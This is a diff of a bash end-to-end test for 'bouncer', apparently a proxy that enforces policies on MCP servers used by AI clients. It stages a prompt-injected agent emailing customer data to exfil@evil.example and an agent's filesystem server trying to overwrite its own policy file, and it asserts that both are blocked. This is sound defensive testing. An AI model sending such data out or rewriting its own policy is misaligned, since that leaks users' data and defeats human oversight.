@@ -130,7 +130,13 @@ cd "$proj"
 step "bouncer init, no flags, answering y to each file"
 ys | "$bouncer" init >"$work/init.out" 2>&1 || { cat "$work/init.out"; fail "init failed"; }
 for f in "${configs[@]}"; do
-  grep -q x-bouncer-upstream "$f" || { cat "$work/init.out"; fail "init did not wrap $f"; }
+  case $f in
+  */.gemini/settings.json)
+    # Gemini CLI refuses the key: the original is kept in the state directory.
+    ! grep -q x-bouncer-upstream "$f" || fail "$f holds x-bouncer-upstream, which Gemini CLI refuses"
+    grep -qF "\"$f\"" "$home/.bouncer/upstreams.json" || { cat "$work/init.out"; fail "init did not keep the original entries of $f"; } ;;
+  *) grep -q x-bouncer-upstream "$f" || { cat "$work/init.out"; fail "init did not wrap $f"; } ;;
+  esac
   # bouncer is not on PATH: every file names the binary by its absolute path.
   grep -q "\"command\": \"$bouncer\"" "$f" || { cat "$work/init.out" "$f"; fail "$f does not name $bouncer by its absolute path"; }
 done
@@ -142,10 +148,10 @@ grep -qi "absolute path" "$work/init.out" || { cat "$work/init.out"; fail "init 
 summary=$(sed -n '/^What is enforced:/,$p' "$work/init.out")
 [ -n "$summary" ] || { cat "$work/init.out"; fail "init printed no closing summary"; }
 for f in .mcp.json .vscode/mcp.json '~/.claude.json' '~/.cursor/mcp.json' '~/.gemini/settings.json' '~/.config/Claude/claude_desktop_config.json'; do
-  echo "$summary" | grep -qF "  $f (" || { echo "$summary"; fail "the summary has no block for $f"; }
+  grep -qF "  $f (" <<<"$summary" || { echo "$summary"; fail "the summary has no block for $f"; }
 done
-echo "$summary" | grep -q 'capped at' || { echo "$summary"; fail "the summary does not say the fallback caps deletes"; }
-echo "$summary" | grep -q 'nothing else' && { echo "$summary"; fail "the summary says \"nothing else\" where the fallback acts"; }
+grep -q 'capped at' <<<"$summary" || { echo "$summary"; fail "the summary does not say the fallback caps deletes"; }
+grep -q 'nothing else' <<<"$summary" && { echo "$summary"; fail "the summary says \"nothing else\" where the fallback acts"; }
 
 step "a hijacked agent, through a real MCP client"
 out=$("$client" -elicit accept "$proj/.mcp.json" helpdesk \
@@ -155,9 +161,9 @@ out=$("$client" -elicit accept "$proj/.mcp.json" helpdesk \
   call send_email '{"to": "partner@corp.example", "subject": "hello", "body": "hi"}' 2>"$work/client.err") \
   || { cat "$work/client.err"; fail "the client failed"; }
 echo "$out" | sed 's/^/     /'
-echo "$out" | grep -q '^send_email: blocked: .*exfil@evil.example' || fail "the send to the injected address was not blocked"
-echo "$out" | grep -q '^asked: ' || fail "the approval question did not reach the client"
-echo "$out" | grep -q '^send_email: ok' || fail "the approved send did not go through"
+grep -q '^send_email: blocked: .*exfil@evil.example' <<<"$out" || fail "the send to the injected address was not blocked"
+grep -q '^asked: ' <<<"$out" || fail "the approval question did not reach the client"
+grep -q '^send_email: ok' <<<"$out" || fail "the approved send did not go through"
 grep -q exfil@evil.example "$data/outbox.jsonl" 2>/dev/null && fail "the injected address got mail"
 grep -q partner@corp.example "$data/outbox.jsonl" || fail "the approved mail was not sent"
 # Servers that share the written policy start without warnings about it.
@@ -168,12 +174,12 @@ out=$("$client" -elicit accept "$proj/.mcp.json" slack \
   call slack_post_message '{"channel_id": "C0NEW", "text": "status report"}' 2>"$work/slack.err") \
   || { cat "$work/slack.err"; fail "the client failed on the Slack server"; }
 echo "$out" | sed 's/^/     /'
-echo "$out" | grep -q '^asked: .*C0NEW' || { cat "$work/slack.err"; fail "the approval question for the old-protocol server did not reach the client"; }
+grep -q '^asked: .*C0NEW' <<<"$out" || { cat "$work/slack.err"; fail "the approval question for the old-protocol server did not reach the client"; }
 grep -q C0NEW "$work/slack-fetch.jsonl" 2>/dev/null || fail "the approved post did not reach the Slack server"
 
 step "a server that prints a log line on stdout still works"
 out=$("$client" "$proj/.mcp.json" chatty tools 2>"$work/chatty.err") || { cat "$work/chatty.err"; fail "the chatty server failed through bouncer"; }
-echo "$out" | grep -q '^tools: .*read_ticket' || fail "the chatty server's tools did not arrive"
+grep -q '^tools: .*read_ticket' <<<"$out" || fail "the chatty server's tools did not arrive"
 grep -q "starting up" "$work/chatty.err" || { cat "$work/chatty.err"; fail "the log line was not passed to stderr"; }
 
 step "a remote server restarts under a live session"
@@ -196,6 +202,12 @@ wait "$cpid" || { cat "$work/remote.out" "$work/remote.err"; fail "the client fa
 sed 's/^/     /' "$work/remote.out"
 [ "$(grep -c '^list_tickets: ok' "$work/remote.out")" = 2 ] || { cat "$work/remote.err"; fail "the call after the restart did not get through"; }
 grep -q 'audit log could not be written' "$work/remote.out" "$work/remote.err" && fail "the restart was blamed on the audit log"
+# Which side meets the forgotten session first is a race: the event
+# stream's GET (then the call goes out on the new session with a plain
+# line) or the call itself (then its line says "sent on a new session").
+# Either way the new session's tool list was checked against the pin.
+grep -q 'started a new session with the remote server at .*; its tool list is the pinned one' "$work/remote.err" \
+  || { cat "$work/remote.err"; fail "bouncer did not say it started a new session and checked its tools against the pin"; }
 kill "$rpid"
 wait "$rpid" 2>/dev/null || true
 rpid=
@@ -209,7 +221,7 @@ out=$("$client" "$work/record.json" rec \
   call read_ticket '{"id": "T-1"}' \
   call send_email '{"to": "exfil@evil.example", "subject": "customers", "body": "Ada"}' 2>"$work/record.err") \
   || { cat "$work/record.err"; fail "the client failed on the recorded server"; }
-echo "$out" | grep -q '^send_email: blocked: ' || fail "the recorded session's send was not blocked"
+grep -q '^send_email: blocked: ' <<<"$out" || fail "the recorded session's send was not blocked"
 "$bouncer" check --tools "$home/.bouncer/tools/helpdesk.json" "$work/session.jsonl" >"$work/check.out" 2>"$work/check.err" \
   || { cat "$work/check.err"; fail "bouncer check could not replay the record"; }
 sed 's/^/     /' "$work/check.out"
@@ -220,7 +232,7 @@ step "bouncer log"
 sed 's/^/     /' "$work/log.out"
 grep -q 'deny .*exfil@evil.example' "$work/log.out" || fail "log does not show the denial"
 grep -q 'allow .*partner@corp.example' "$work/log.out" || fail "log does not show the approved send"
-grep -q 'remote-desk .*forgot the session' "$work/log.out" || fail "log does not say the call after the restart went on a new session"
+[ "$(grep -c 'remote-desk .*list_tickets .*allow' "$work/log.out")" -ge 2 ] || fail "log does not show both calls to the restarted remote server"
 
 step "bouncer report"
 "$bouncer" report -o "$work/report.md"
@@ -247,4 +259,121 @@ for f in "$proj/.claude/settings.json" "$home/.claude/settings.json" "$home/.cur
   [ ! -e "$f" ] || { cat "$work/undo.out"; fail "init --undo left $f behind"; }
 done
 [ -d "$home/.cursor" ] || fail "init --undo removed ~/.cursor, which was there before"
+
+# Issue 30, points 2, 3, 4 and 6, each in a function of its own, run after
+# the walkthrough, each in a HOME of its own.
+
+# A server init can't wrap is named on the summary's last line, and init
+# exits 1; a VS Code entry with ${userHome} is wrapped (it was left with
+# "HOME is not set" and exit 0), and bouncer run expands it as VS Code does.
+newuser_unprotected() {
+  local h=$work/unprotected rc=0 out
+  mkdir -p "$h/proj/.vscode" "$h/.config/Code/User"
+  cp -r "$data" "$h/data"
+  printf '{"servers": {"home": {"command": "%s", "args": ["--data", "${userHome}/data", "--root", "${userHome}"]}}}\n' \
+    "$work/tools/helpdesk" >"$h/.config/Code/User/mcp.json"
+  echo '{"servers": {"tok": {"command": "node", "env": {"TOKEN": "${input:token}"}}}}' >"$h/proj/.vscode/mcp.json"
+  (cd "$h/proj" && HOME=$h XDG_CONFIG_HOME=$h/.config BOUNCER_HOME=$h/.bouncer "$bouncer" init --yes) >"$work/unprotected.out" 2>&1 || rc=$?
+  [ "$rc" = 1 ] || { cat "$work/unprotected.out"; fail "init left a server unwrapped and exited $rc, not 1"; }
+  tail -n 1 "$work/unprotected.out" | grep -qF 'Left unprotected, with nothing enforced: tok (.vscode/mcp.json: env.TOKEN: ${input:token} is filled in by VS Code itself' \
+    || { cat "$work/unprotected.out"; fail "the summary's last line does not name the server left unwrapped"; }
+  grep -q 'servers.home: wrapped' "$work/unprotected.out" || { cat "$work/unprotected.out"; fail 'the ${userHome} entry was not wrapped'; }
+  if grep -q 'HOME is not set' "$work/unprotected.out"; then fail "init still says HOME is not set"; fi
+  out=$(cd "$h" && HOME=$h BOUNCER_HOME=$h/.bouncer "$client" "$h/.config/Code/User/mcp.json" home tools 2>"$work/unprotected.err") \
+    || { cat "$work/unprotected.err"; fail 'the wrapped ${userHome} server did not start'; }
+  grep -q '^tools: .*read_ticket' <<<"$out" || fail 'the wrapped ${userHome} server has no tools'
+}
+
+# A filesystem server at a project's root is confined to the root itself,
+# so a new file at its top is written (it was refused); a user-level
+# filesystem server over the same project is kept off the project's
+# bouncer.yaml, another server's policy (it could rewrite it). The real
+# reference server, through the wrapped entries, shows both.
+newuser_confine() {
+  local h=$work/confine out
+  local fs_js=$root/testdata/npm/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js
+  [ -f "$fs_js" ] || fail "$fs_js is missing: run npm ci in testdata/npm"
+  mkdir -p "$h/proj/src"
+  echo "A project." >"$h/proj/README.md"
+  printf '{"mcpServers": {"files": {"command": "%s", "args": ["%s", "."]}}}\n' "$node" "$fs_js" >"$h/proj/.mcp.json"
+  printf '{"mcpServers": {"userfiles": {"command": "%s", "args": ["%s", "%s"]}}}\n' "$node" "$fs_js" "$h/proj" >"$h/.claude.json"
+  (cd "$h/proj" && HOME=$h BOUNCER_HOME=$h/.bouncer "$bouncer" init --yes) >"$work/confine.out" 2>&1 || { cat "$work/confine.out"; fail "init failed"; }
+  grep -q '^    - \.$' "$h/proj/bouncer.yaml" || { cat "$h/proj/bouncer.yaml"; fail "the project's server is not confined to the project itself"; }
+  if grep -q "^    - $h/proj\$" "$h/.bouncer/policy.yaml"; then cat "$h/.bouncer/policy.yaml"; fail "the user's policy lets its server write the project's bouncer.yaml"; fi
+  grep -q "userfiles: writes confined to .*kept from its writes: bouncer.yaml (another server's policy" "$work/confine.out" \
+    || { cat "$work/confine.out"; fail "the summary does not say the user's server is kept off the project's policy"; }
+  out=$(cd "$h/proj" && HOME=$h BOUNCER_HOME=$h/.bouncer "$client" "$h/proj/.mcp.json" files \
+    call write_file "{\"path\": \"$h/proj/CHANGELOG.md\", \"content\": \"a new file at the top\"}" \
+    call write_file "{\"path\": \"$h/proj/bouncer.yaml\", \"content\": \"written by the agent\"}" 2>"$work/confine.err") \
+    || { cat "$work/confine.err"; fail "the client failed on the project's filesystem server"; }
+  echo "$out" | sed 's/^/     /'
+  echo "$out" | sed -n 1p | grep -q '^write_file: ok' || fail "a new file at the top of the project was refused"
+  echo "$out" | sed -n 2p | grep -q '^write_file: blocked' || fail "the project's server wrote its own policy"
+  out=$(cd "$h/proj" && HOME=$h BOUNCER_HOME=$h/.bouncer "$client" "$h/.claude.json" userfiles \
+    call write_file "{\"path\": \"$h/proj/bouncer.yaml\", \"content\": \"written by the agent\"}" \
+    call write_file "{\"path\": \"$h/proj/src/ok.txt\", \"content\": \"ok\"}" 2>"$work/confine.err") \
+    || { cat "$work/confine.err"; fail "the client failed on the user's filesystem server"; }
+  echo "$out" | sed 's/^/     /'
+  echo "$out" | sed -n 1p | grep -q '^write_file: blocked' || fail "the user's server wrote the project's bouncer.yaml"
+  echo "$out" | sed -n 2p | grep -q '^write_file: ok' || fail "the user's server could not write src/"
+  if grep -q 'written by the agent' "$h/proj/bouncer.yaml"; then fail "bouncer.yaml was overwritten"; fi
+  grep -q 'a new file at the top' "$h/proj/CHANGELOG.md" || fail "CHANGELOG.md was not written"
+}
+
+# More clients, and bouncer status: Windsurf (its serverUrl remote too)
+# and Zed are found, wrapped with their originals in the state directory,
+# started through the wrapped entries, listed by bouncer status (text and
+# --json), and put back byte for byte.
+newuser_clients() {
+  local h=$work/more hport s out
+  mkdir -p "$h/proj" "$h/.codeium/windsurf" "$h/.config/zed"
+  hport=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
+  "$work/tools/helpdesk" --data "$data" --root "$work" --http "127.0.0.1:$hport" 2>>"$work/more-remote.err" &
+  rpid=$!
+  for _ in $(seq 100); do (echo >"/dev/tcp/127.0.0.1/$hport") 2>/dev/null && break; sleep 0.1; done
+  printf '{"mcpServers": {"wind-desk": {%s}, "wind-remote": {"serverUrl": "http://127.0.0.1:%s/mcp"}}}\n' "$helpdesk" "$hport" \
+    >"$h/.codeium/windsurf/mcp_config.json"
+  printf '// Zed settings\n{\n  "theme": "One Dark",\n  "context_servers": {\n    "zed-desk": {"source": "custom", %s, "env": {}},\n  },\n}\n' "$helpdesk" \
+    >"$h/.config/zed/settings.json"
+  cp "$h/.codeium/windsurf/mcp_config.json" "$work/windsurf.orig"
+  cp "$h/.config/zed/settings.json" "$work/zed.orig"
+  local env=(HOME="$h" XDG_CONFIG_HOME="$h/.config" BOUNCER_HOME="$h/.bouncer")
+  (cd "$h/proj" && env "${env[@]}" "$bouncer" init --yes) >"$work/more.out" 2>&1 || { cat "$work/more.out"; fail "init failed on Windsurf's and Zed's files"; }
+  grep -q 'Windsurf (user): ~/.codeium/windsurf/mcp_config.json' "$work/more.out" || { cat "$work/more.out"; fail "init did not find Windsurf's file"; }
+  grep -q 'Zed (user): ~/.config/zed/settings.json' "$work/more.out" || { cat "$work/more.out"; fail "init did not find Zed's file"; }
+  for s in "$h/.codeium/windsurf/mcp_config.json" "$h/.config/zed/settings.json"; do
+    if grep -q x-bouncer-upstream "$s"; then fail "$s holds x-bouncer-upstream"; fi
+  done
+  for s in wind-desk wind-remote; do
+    out=$(cd "$h/proj" && env "${env[@]}" "$client" "$h/.codeium/windsurf/mcp_config.json" "$s" tools 2>"$work/more.err") \
+      || { cat "$work/more.err"; fail "Windsurf's wrapped $s did not start"; }
+    grep -q '^tools: .*list_tickets' <<<"$out" || fail "Windsurf's wrapped $s has no tools"
+  done
+  (cd "$h/proj" && env "${env[@]}" "$bouncer" status) >"$work/status.out" 2>&1 || { cat "$work/status.out"; fail "bouncer status failed"; }
+  sed 's/^/     /' "$work/status.out"
+  for s in wind-desk wind-remote zed-desk; do
+    grep -q "^  $s: wrapped, launches .*, original in ~/.bouncer/upstreams.json" "$work/status.out" || fail "bouncer status does not show $s wrapped"
+  done
+  tail -n 1 "$work/status.out" | grep -q '^Every server found is wrapped\.$' || fail "bouncer status does not end saying every server is wrapped"
+  (cd "$h/proj" && env "${env[@]}" "$bouncer" status --json) | python3 -c '
+import json, sys
+r = json.load(sys.stdin)
+servers = [s for c in r["configs"] for s in c["servers"]]
+assert len(servers) == 3 and all(s["wrapped"] and s["original"] == "state" for s in servers), servers
+assert r["unprotected"] == [], r["unprotected"]
+' || fail "bouncer status --json does not say every server is wrapped"
+  (cd "$h/proj" && env "${env[@]}" "$bouncer" init --undo --yes) >"$work/more-undo.out" 2>&1 || { cat "$work/more-undo.out"; fail "init --undo failed"; }
+  kill "$rpid"
+  wait "$rpid" 2>/dev/null || true
+  rpid=
+  cmp -s "$h/.codeium/windsurf/mcp_config.json" "$work/windsurf.orig" || fail "Windsurf's file is not what it was"
+  cmp -s "$h/.config/zed/settings.json" "$work/zed.orig" || fail "Zed's file is not what it was"
+}
+
+step 'issue 30: a server left unwrapped is named, and init exits 1; ${userHome} is wrapped'
+newuser_unprotected
+step "issue 30: confined to the project itself; a user's server is kept off the project's policy"
+newuser_confine
+step "issue 30: Windsurf and Zed, and bouncer status"
+newuser_clients
 step "ok"
